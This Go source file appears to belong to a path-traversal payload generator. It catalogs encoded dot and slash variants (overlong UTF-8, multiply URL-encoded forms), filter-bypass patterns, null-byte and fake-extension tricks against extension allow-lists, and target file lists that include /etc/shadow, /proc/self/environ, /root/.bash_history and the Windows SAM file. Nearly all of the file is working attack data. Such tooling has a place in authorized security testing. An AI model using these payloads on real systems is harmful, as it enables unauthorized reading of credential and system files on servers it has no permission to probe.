// Package encoding holds the static, process-global catalogs the payload
// generator combines into traversal strings: dot/slash equivalents, target
// file lists per OS, legitimate path-validation prefixes, null-byte
// encodings, and fake extensions.
//
// Every table here is a literal, built entirely from Go var initializers —
// there is no I/O and nothing is mutated after package init.
package encoding

// DOTS enumerates semantic equivalents of ".." across encoding levels:
// literal, single/double/triple/quadruple/quintuple URL-encoding, UTF-8
// overlong forms, invalid-UTF-8 byte sequences, and null-byte-interleaved
// variants.
var DOTS = []string{
	"..",
	".%00.",
	"..%00",
	"..%01",
	".?", "??", "?.",
	"%5c..",
	".%2e", "%2e.",
	".../.",
	"..../",
	"%2e%2e",
	"%%c0%6e%c0%6e",
	"0x2e0x2e", "%c0.%c0.",
	"%252e%252e",
	"%c0%2e%c0%2e", "%c0%ae%c0%ae",
	"%c0%5e%c0%5e", "%c0%ee%c0%ee",
	"%c0%fe%c0%fe", "%uff0e%uff0e",
	"%%32%%65%%32%%65",
	"%e0%80%ae%e0%80%ae",
	"%25c0%25ae%25c0%25ae",
	"%2525252e%252525252e",
	"%f0%80%80%ae%f0%80%80%ae",
	"%f8%80%80%80%ae%f8%80%80%80%ae",
	"%fc%80%80%80%80%ae%fc%80%80%80%80%ae",
}

// SLASHES enumerates the same encoding levels for "/" and "\".
var SLASHES = []string{
	"/", "\\",
	"%2f", "%5c",
	"0x2f", "0x5c",
	"%252f", "%255c",
	"%c0%2f", "%c0%af", "%c0%5c", "%c1%9c", "%c1%pc",
	"%c0%9v", "%c0%qf", "%c1%8s", "%c1%1c", "%c1%af",
	"%bg%qf", "%u2215", "%u2216", "%uefc8", "%uf025",
	"%%32%%66", "%%35%%63",
	"%e0%80%af",
	"%25c1%259c", "%25c0%25af",
	"%2525252f", "%25252525255c",
	"%f0%80%80%af",
	"%f8%80%80%80%af",
}

// SPECIAL_PATTERNS are hand-authored bypass strings not reachable by the
// DOTS × SLASHES cross product — mixed separators and lopsided dot/slash
// counts real servers have been seen to mis-normalize.
var SpecialPatterns = []string{
	"..//", "..///", "..\\\\", "..\\\\\\",
	"../\\", "..\\/", "../\\/", "..\\/\\",
	"\\../", "/..\\",
	".../", "...\\",
	"./../", ".\\..\\",
	".//..///", ".\\\\..\\\\",
	"......///",
	"%2e%c0%ae%5c", "%2e%c0%ae%2f",
}

// NonRecursiveBypassPatterns are base patterns that survive a single,
// naive, non-recursive "../" strip — the classic "....//"-family and its
// encodings. The generator repeats these at 3 and 4 levels (with an
// overlap trick) rather than storing pre-repeated strings here.
var NonRecursiveBypassPatterns = []string{
	"....//",
	"....\\\\",
	"..../",
	"....\\",
	"..;/",
	"..%2f",
	"..%5c",
	"..%252f",
	"..%255c",
	"%2e%2e/",
	"%2e%2e\\",
	"..%c0%af",
	"%2e%2e%2f",
}

// FilesWindows is the short Windows target-file list used by relative
// traversals. Entries that start with a separator are normalized (leading
// separator stripped) by the generator before concatenation.
var FilesWindows = []string{
	"boot.ini",
	"\\windows\\win.ini",
	"\\windows\\system32\\drivers\\etc\\hosts",
}

// FilesUnix is the short UNIX target-file list used by relative traversals.
var FilesUnix = []string{
	"/etc/passwd",
	"/etc/issue",
}

// ExtraFiles are appended when the caller asks for --extra-files.
var ExtraFiles = []string{
	"config.inc.php",
	"web.config",
}

// AbsFilesWindows is the richer target-file list used by the absolute_path
// detection method.
var AbsFilesWindows = []string{
	"c:\\boot.ini",
	"c:\\windows\\win.ini",
	"c:\\windows\\system32\\drivers\\etc\\hosts",
	"c:\\windows\\repair\\sam",
	"c:\\windows\\php.ini",
	"c:\\inetpub\\wwwroot\\web.config",
	"c:\\xampp\\apache\\conf\\httpd.conf",
}

// AbsFilesUnix is the richer absolute-path target-file list for UNIX.
var AbsFilesUnix = []string{
	"/etc/passwd",
	"/etc/shadow",
	"/etc/issue",
	"/etc/hosts",
	"/etc/group",
	"/proc/self/environ",
	"/proc/version",
	"/root/.bash_history",
	"/var/log/auth.log",
}

// PrefixesWindows are legitimate allow-listed directory prefixes that a
// path_validation bypass tries to escape from.
var PrefixesWindows = []string{
	"images\\",
	"uploads\\",
	"public\\",
	"static\\",
	"assets\\img\\",
}

// PrefixesUnix are the UNIX equivalents of PrefixesWindows.
var PrefixesUnix = []string{
	"images/",
	"uploads/",
	"public/",
	"static/",
	"assets/img/",
}

// NullEncodings are representations of the null byte used to defeat
// server-side extension allow-lists.
var NullEncodings = []string{
	"%00",
	"%2500",
	"%%30%%30",
	"%u0000",
	"%c0%80",
	"\x00",
}

// FakeExtensions are appended after a null-byte encoding to mimic an
// allow-listed extension.
var FakeExtensions = []string{
	".png",
	".jpg",
	".gif",
	".pdf",
	".jpeg",
	".txt",
}
